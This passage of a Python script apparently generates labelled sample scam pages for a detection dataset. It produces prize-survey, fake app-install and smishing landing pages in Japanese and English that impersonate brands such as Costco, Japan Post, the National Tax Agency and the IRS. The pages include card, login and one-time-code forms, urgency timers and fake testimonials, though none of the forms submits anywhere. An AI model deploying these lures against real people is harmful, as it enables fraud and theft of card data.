     ["Are you a Costco member?", "How often do you shop at Costco?", "Would you recommend Costco?"], "$500 Costco gift card", "$4.95 shipping", "Anniversary survey scam with a card form", MSB),
    ("en-pz-chrome-user", "https://chrome-winner.example.net/", "Congratulations Chrome User!", "#1a73e8",
     ["How do you rate Chrome?", "What's your age?"], "a Samsung Galaxy S26", "$1.99 delivery", "Classic 'Chrome user' prize survey", "article:www.bleepingcomputer.com"),
    ("en-pz-spin-samsung", "https://spin-and-win.example.org/", "Spin to Win", "#222",
     [], "Samsung 65\" TV", "$2.00 handling", "Wheel prize scam with a timer and card form", MSB),
    ("en-pz-amazon-reward", "https://amazon-rewards.example.com/loyalty", "Amazon Loyalty Program", "#232f3e",
     ["How long have you shopped on Amazon?", "Are you a Prime member?", "Rate your last delivery"], "an Apple Watch Ultra", "$3.99 shipping", "Retailer loyalty survey scam", "article:www.amazon.com"),
]
for slug, url, title, color, qs, prize, fee, note, src in PRIZES:
    lang = slug[:2]
    ja = lang == "ja"
    qsh = "".join('<div class="q" data-i="%d"%s><p><strong>%s %d/%d:</strong> %s</p><button>%s</button><button>%s</button><button>%s</button></div>'
                  % (i, "" if i == 0 else " hidden", "質問" if ja else "Question", i + 1, len(qs), q(x),
                     *(["はい", "いいえ", "どちらとも言えない"] if ja else ["Yes", "No", "Not sure"])) for i, x in enumerate(qs))
    wheel = ('<div class="gift"><div id="wh" style="width:220px;height:220px;border-radius:50%%;margin:auto;background:conic-gradient(#f44 0 45deg,#fc3 0 90deg,#4c4 0 135deg,#39f 0 180deg,#f44 0 225deg,#fc3 0 270deg,#4c4 0 315deg,#39f 0);transition:transform 3s"></div>'
             '<button id="spin" style="font-size:20px;margin-top:12px">%s</button></div>' % ("回す" if ja else "SPIN")) if not qs else ""
    form = ('<div id="card"><h2>%s</h2><p>%s</p><form onsubmit="return false"><p><input placeholder="%s"></p><p><input placeholder="%s"></p>'
            '<p><input placeholder="%s" inputmode="numeric"></p><p><input placeholder="MM/YY" size="6"> <input placeholder="CVV" size="4"></p><button>%s</button></form></div>'
            % (q(("おめでとうございます！ %s が当選しました" if ja else "Congratulations! You won %s") % prize), q(("受け取りには %s のお支払いが必要です。" if ja else "Just pay %s to receive it.") % fee),
               "お名前" if ja else "Full name", "住所" if ja else "Address", "カード番号" if ja else "Card number", "受け取る" if ja else "Claim now"))
    cms = "".join('<div class="cm"><b>%s</b> %s</div>' % (q(n), q(t)) for n, t in (
        [("さくら", "本当に届きました！"), ("ケンジ", "半信半疑でしたが当選しました"), ("みほ", "送料だけで iPhone が届いた")] if ja else
        [("Linda M.", "Got mine yesterday!"), ("Tom R.", "I thought it was fake but it arrived"), ("Sara K.", "Just paid shipping. Thanks!")]))
    body = ('<div class="top">%s</div><div class="w"><p>%s <strong id="tm">04:59</strong></p><p>%s</p>%s%s%s<h3>%s</h3>%s</div>'
            % (q(title), "残り時間：" if ja else "Offer expires in", q(("本日 %s のお客様だけが選ばれました。" if ja else "Only 5 visitors today (%s) were selected.") % "12/07"),
               qsh, wheel, form, "コメント" if ja else "Comments", cms))
    script = ("var t=299;setInterval(function(){t=Math.max(0,t-1);document.getElementById('tm').textContent=('0'+Math.floor(t/60)).slice(-2)+':'+('0'+t%60).slice(-2);},1000);"
              "function done(){document.getElementById('card').style.display='block';}"
              "document.querySelectorAll('.q').forEach(function(d){d.querySelectorAll('button').forEach(function(b){b.onclick=function(){d.hidden=true;var n=d.nextElementSibling;if(n&&n.classList.contains('q')){n.hidden=false;}else{done();}};});});"
              "var s=document.getElementById('spin');if(s){s.onclick=function(){document.getElementById('wh').style.transform='rotate(1845deg)';setTimeout(done,3200);};}")
    scam(slug, lang, url, "other", note, doc(lang, title, body, PZ_CSS % color, script), src)

# ------------------------------------------------------------------ fake APK / iOS profile
APK_CSS = """body{background:#f5f5f5}.hd{background:%s;color:#fff;padding:14px;font-weight:700;font-size:18px}.w{max-width:480px;margin:0 auto;background:#fff;padding:18px}
.dl{display:block;text-align:center;background:#1e8e3e;color:#fff;padding:14px;border-radius:8px;font-size:18px;text-decoration:none;margin:14px 0}
ol li{margin:6px 0}.small{font-size:12px;color:#666}"""
APKS = [
    ("ja-apk-yubin", "https://yubin-fuzai.example.com/app/", "日本郵便", "#cc0000", "ご不在のため荷物を持ち帰りました",
     ["再配達のお申し込みには、日本郵便 公式アプリのインストールが必要です。", "最新版のアプリで再配達日時を指定してください。"], "JapanPost_Redelivery.apk", "apk",
     "郵便を装う不在通知 SMS の着地 → APK", "article:www.post.japanpost.jp"),
    ("ja-apk-mynapoint", "https://mynapoint-app.example.net/", "マイナポイント", "#d7000f", "マイナポイント 追加付与のお知らせ",
     ["申込期限が迫っています。公式アプリから申込むと最大 20,000 ポイント付与されます。", "Google Play 以外からのインストールを許可してください。"], "mynapoint_v3.apk", "apk",
     "給付を装う偽アプリ（提供元不明のアプリを許可させる）", "article:www.antiphishing.jp"),
    ("ja-apk-ginkou-hontai", "https://ginkou-honnin.example.org/app", "ご本人確認アプリ", "#003e8a", "お取引の制限を解除するには",
     ["お客様の口座は、本人確認が未完了のため、お取引を一部制限しています。", "専用の本人確認アプリをインストールし、画面の指示に従ってください。"], "HonninKakunin.apk", "apk",
     "銀行を装う「本人確認アプリ」APK", "article:www.jc3.or.jp"),
    ("ja-ios-wifi-profile", "https://koushu-wifi.example.com/ios", "公衆Wi-Fi セキュリティ", "#0a84ff", "安全に接続するためのプロファイル",
     ["この公衆Wi-Fiを安全に使うには、セキュリティプロファイルのインストールが必要です。", "「設定」→「ダウンロード済みのプロファイル」→「インストール」の順に進み、パスコードを入力してください。"], "wifi-secure.mobileconfig", "ios",
     "iPhone に構成プロファイル（VPN・証明書）を入れさせる", "article:support.apple.com"),
    ("en-apk-ups-app", "https://ups-redelivery.example.com/app", "UPS", "#351c15", "Package on hold",
     ["We attempted delivery but need you to confirm your address in the UPS Mobile app.", "Install the latest app below."], "UPS_Mobile_Update.apk", "apk",
     "Parcel SMS landing page pushing an APK", "article:www.ups.com"),
    ("en-apk-bank-shield", "https://bank-shield.example.net/", "Mobile Banking Shield", "#0b3d91", "Your banking app is at risk",
     ["We detected malware targeting your banking app.", "Install Banking Shield to protect your account. Allow 'Install unknown apps' when asked."], "BankingShield.apk", "apk",
     "Fake bank security APK", "article:www.threatfabric.com"),
    ("en-ios-game-profile", "https://free-gems.example.org/ios", "Free Gems Installer", "#7c3aed", "Get unlimited gems",
     ["Download the configuration profile and install it in Settings to unlock gems.", "Then trust the developer certificate."], "gems.mobileconfig", "ios",
     "iOS configuration profile lure (certificate trust)", MSB),
]
for slug, url, brand, color, h1, paras, fname, kind, note, src in APKS:
    lang = slug[:2]
    ja = lang == "ja"
    stepsl = (["ダウンロードしたファイルを開きます", "「この提供元のアプリを許可」をオンにします", "「インストール」をタップします", "アプリを開き、ログインしてください"] if ja else
              ["Open the downloaded file", "Turn on 'Allow from this source'", "Tap Install", "Open the app and sign in"]) if kind == "apk" else \
             (["「許可」をタップしてプロファイルをダウンロード", "設定 → 一般 → VPNとデバイス管理", "プロファイルを選び「インストール」", "証明書信頼設定で「完全に信頼」をオン"] if ja else
              ["Tap Allow to download the profile", "Settings → General → VPN & Device Management", "Tap Install", "Turn on full trust for the certificate"])
    body = ('<div class="hd">%s</div><div class="w"><h1 style="font-size:20px">%s</h1>%s<a class="dl" id="dl" href="files/%s">%s</a><ol>%s</ol><p class="small">%s</p></div>'
            % (q(brand), q(h1), p(*map(q, paras)), q(fname), "アプリをダウンロード" if (ja and kind == "apk") else ("プロファイルをダウンロード" if ja else ("Download app" if kind == "apk" else "Download profile")),
               "".join("<li>%s</li>" % q(s) for s in stepsl), "お問い合わせ番号：%d" % (seed(slug) % 99999999) if ja else "Ref #%d" % (seed(slug) % 99999999)))
    script = "if(/Android|iPhone|iPad/.test(navigator.userAgent)){setTimeout(function(){location.href=document.getElementById('dl').href;},2500);}"
    inner = body.split('<div class="w">', 1)[1].rsplit("</div>", 1)[0]
    page = site(lang, "%s | %s" % (h1, brand), brand, '<div class="w">%s</div>' % inner,
                nav=[("ホーム" if ja else "Home", "/"), ("サービス" if ja else "Services", "/services"), ("よくある質問" if ja else "FAQ", "/faq")],
                crumbs=[h1], color=color, css=APK_CSS.replace("body{background:#f5f5f5}", "") % color, script=script)
    scam(slug, lang, url, "app-install-lure", note, page, src)

# ------------------------------------------------------------------ smishing landings (cloned site chrome)
SM = [
    ("ja-sm-nta-kanpu", "https://nta-kanpukin.example.com/refund/", "国税庁", "#1a4d8f", "還付金受取手続きのご案内",
     ["令和7年度の所得税の還付金（28,450円）が未受取となっています。", "受取期限：本日中。期限を過ぎると還付金は国庫に帰属します。", "受取口座の確認のため、クレジットカード情報を入力してください。"],
     "card otp", "国税庁を装う還付金 SMS：カード入力とワンタイムコード", AP),
    ("ja-sm-tepco-teishi", "https://tepco-ryokin.example.net/pay", "東京電力エナジーパートナー", "#e60012", "【重要】電気料金未払いによる送電停止のお知らせ",
     ["お客様の電気料金（2か月分 14,280円）のお支払いが確認できておりません。", "本日中にお支払いがない場合、明日午前9時より送電を停止いたします。"],
     "card", "電力会社を装う送電停止予告：カード入力", AP),
    ("ja-sm-suidou-tainou", "https://suidou-kyoku.example.org/tainou", "水道局", "#0073a8", "水道料金 滞納のお知らせ",
     ["水道料金が未納となっております。お支払い期限を過ぎますと給水を停止いたします。", "下記よりクレジットカードでお支払いください。"],
     "card", "水道局を装う滞納 SMS：給水停止でカード入力", KOKU),
    ("ja-sm-ja-bank", "https://jabank-torihiki.example.com/login", "JAバンク", "#00913a", "お取引制限のお知らせ",
     ["お客様の口座で不正なお取引の可能性が検知されたため、お取引を制限しております。", "制限解除にはログインのうえ、ご本人確認をお願いします。確認後、担当者よりお電話いたします。"],
     "login phone", "JAバンクを装う取引制限：ログイン＋電話番号", AP),
    ("ja-sm-aupay-teishi", "https://aupay-riyou.example.net/verify", "au PAY", "#eb5505", "au PAY ご利用停止のお知らせ",
     ["第三者による不正利用の疑いがあるため、au PAY のご利用を一時停止しました。", "ご本人様確認のため、カード情報と SMS 認証コードを入力してください。"],
     "card otp", "決済サービスを装う利用停止：カード＋SMS認証コード", AP),
    ("ja-sm-nexco-mibarai", "https://nexco-tsukouryo.example.org/pay", "NEXCO", "#008c44", "未払い通行料金のお支払いのお願い",
     ["ご利用の高速道路において、通行料金の未払いが確認されました。", "本日中にお支払いがない場合、延滞金（3,000円）が加算され、法的措置を取ることがあります。"],
     "card", "高速道路会社を装う未払い通行料：カード入力", NQ),
    ("ja-sm-nhk-mibarai", "https://nhk-jushinryo.example.com/pay", "NHK", "#0077c8", "受信料未払いのお知らせ",
     ["受信料のお支払いが確認できません。未払い分（12か月分 13,650円）をお支払いください。", "お支払いいただけない場合、割増金を請求いたします。"],
     "card", "NHK を装う受信料未払い：カード入力", KOKU),
    ("ja-sm-mynaportal-kigen", "https://mynaportal-koushin.example.net/", "マイナポータル", "#00497a", "マイナンバーカードの電子証明書の有効期限が切れています",
     ["このままではマイナ保険証が使えなくなります。オンラインで更新手続きを行ってください。", "更新手数料（1,100円）のお支払いにはクレジットカードをご利用ください。"],
     "card", "マイナンバー更新を装う手数料詐欺：カード入力", AP),
    ("en-sm-fastrak", "https://fastrak-tolls.example.com/pay", "FasTrak", "#005b96", "Unpaid toll notice",
     ["Our records show you have an outstanding toll balance of $6.99.", "Pay by today to avoid a $50 late fee and DMV registration hold."],
     "card otp", "Toll smishing landing (Smishing Triad style): card form then one-time code", KREBS),
    ("en-sm-irs-refund", "https://irs-refund-status.example.net/", "IRS", "#0a4a7d", "Your tax refund is pending",
     ["We calculated a refund of $1,284.60 for tax year 2025.", "Verify your card to receive the deposit within 24 hours."],
     "card", "IRS refund smishing with card form", "article:www.irs.gov"),
    ("en-sm-dmv-suspend", "https://dmv-notice.example.org/", "Department of Motor Vehicles", "#034a90", "License suspension notice",
     ["You have an unpaid traffic citation. Your driving privileges will be suspended on December 9.", "Pay the $27.50 fee now to keep your license."],
     "card", "DMV suspension smishing with card form", NQ),
    ("en-sm-ups-address", "https://ups-address-update.example.com/", "UPS", "#351c15", "Delivery address incomplete",
     ["Your package 1Z98X4 is held at our facility because the address is incomplete.", "Pay a $1.99 redelivery fee to schedule delivery."],
     "card", "Parcel smishing with $1.99 fee", PHL),
    ("en-sm-netflix-hold", "https://netflix-billing.example.net/update", "Netflix", "#e50914", "Your membership is on hold",
     ["We couldn't process your last payment.", "Update your payment details within 24 hours to avoid cancellation."],
     "card", "Streaming payment-failed smishing", PHL),
]
SM_JS = """document.getElementById('f1').addEventListener('submit',function(e){e.preventDefault();document.getElementById('f1').hidden=true;var o=document.getElementById('f2');if(o){o.hidden=false;}else{document.getElementById('ok').hidden=false;}});
var f2=document.getElementById('f2');if(f2){f2.addEventListener('submit',function(e){e.preventDefault();f2.hidden=true;document.getElementById('ok').hidden=false;});}
var left=%d;setInterval(function(){left=Math.max(0,left-1);var e=document.getElementById('left');if(e)e.textContent=Math.floor(left/60)+':'+('0'+left%%60).slice(-2);},1000);"""
for slug, url, brand, color, h1, paras, mech, note, src in SM:
    lang = slug[:2]
    ja = lang == "ja"
    m = mech.split()
    if "login" in m:
        f1 = ('<form id="f1" class="box"><p><label>%s<br><input name="id"></label></p><p><label>%s<br><input type="password" name="pw"></label></p>'
              '<p><label>%s<br><input name="tel" inputmode="tel" placeholder="090-0000-0000"></label></p><button class="btn">%s</button></form>'
              % ("ログインID" if ja else "User ID", "パスワード" if ja else "Password", "携帯電話番号（折り返し連絡先）" if ja else "Mobile number", "ログイン" if ja else "Sign in"))
    else:
        f1 = ('<form id="f1" class="box"><p><label>%s<br><input name="nm"></label></p><p><label>%s<br><input name="cc" inputmode="numeric" placeholder="0000 0000 0000 0000"></label></p>'
              '<p><label>%s <input name="ex" size="6" placeholder="MM/YY"></label> <label>%s <input name="cv" size="4"></label></p><p><label>%s<br><input name="tel" inputmode="tel"></label></p>'
              '<button class="btn">%s</button></form>'
              % ("カード名義" if ja else "Cardholder name", "カード番号" if ja else "Card number", "有効期限" if ja else "Expiry", "セキュリティコード" if ja else "CVV",
                 "電話番号" if ja else "Phone", "支払う" if ja else "Pay now"))
    f2 = ""
    if "otp" in m:
        f2 = ('<form id="f2" class="box" hidden><p>%s</p><p><input name="otp" inputmode="numeric" size="8"></p><button class="btn">%s</button></form>'
              % (q("ご登録の携帯電話に送信された認証コード（6桁）を入力してください。" if ja else "Enter the 6-digit code we sent to your phone."), "認証" if ja else "Verify"))
    body = ('<h1>%s</h1>%s<div class="warn">%s <strong id="left">14:59</strong></div>%s%s<div id="ok" class="info" hidden>%s</div>'
            % (q(h1), p(*map(q, paras)), "手続き期限まで残り" if ja else "Time left:", f1, f2,
               q("お手続きが完了しました。" if ja else "Thank you. Your payment is being processed.")))
    scam(slug, lang, url, "other", note,
         site(lang, "%s | %s" % (h1, brand), brand, body, nav=[("ホーム" if ja else "Home", "/"), ("お知らせ" if ja else "Notices", "/news")], crumbs=[h1], color=color,
              script=SM_JS % (899 - seed(slug) % 300)), src)
